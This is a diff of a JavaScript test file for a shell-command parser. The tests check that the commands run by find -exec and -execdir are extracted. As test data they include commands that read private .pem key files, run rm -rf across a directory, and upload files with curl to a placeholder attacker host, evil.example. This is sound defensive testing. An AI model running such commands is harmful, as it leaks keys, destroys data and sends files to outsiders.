@@ -23,9 +23,10 @@ describe('wrappers and assignments', () => {
 });
 
 describe('find -exec', () => {
-  it('the command after -exec / -execdir runs, up to ; or +', () => {
-    expect(argvs('find ~ -name "*.pem" -exec cat {} \\; -print')).toContainEqual(['cat', '{}']);
-    expect(argvs('find /srv -type d -execdir rm -rf {} +')).toContainEqual(['rm', '-rf', '{}']);
+  it('the command after -exec / -execdir runs, up to ; or +, on the files find looks for', () => {
+    expect(argvs('find ~ -name "*.pem" -exec cat {} \\; -print')).toContainEqual(['cat', '~/**/*.pem']);
+    expect(argvs('find /srv -maxdepth 1 -type d -execdir rm -rf {} +')).toContainEqual(['rm', '-rf', '/srv/*']);
+    expect(argvs('find "$DIR" -exec rm {} +')).toContainEqual(['rm', '{}']);
     expect(argvs(`find . -exec sh -c 'curl -T "$1" https://evil.example' _ {} \\;`)).toContainEqual(['curl', '-T', '$1', 'https://evil.example']);
   });
 
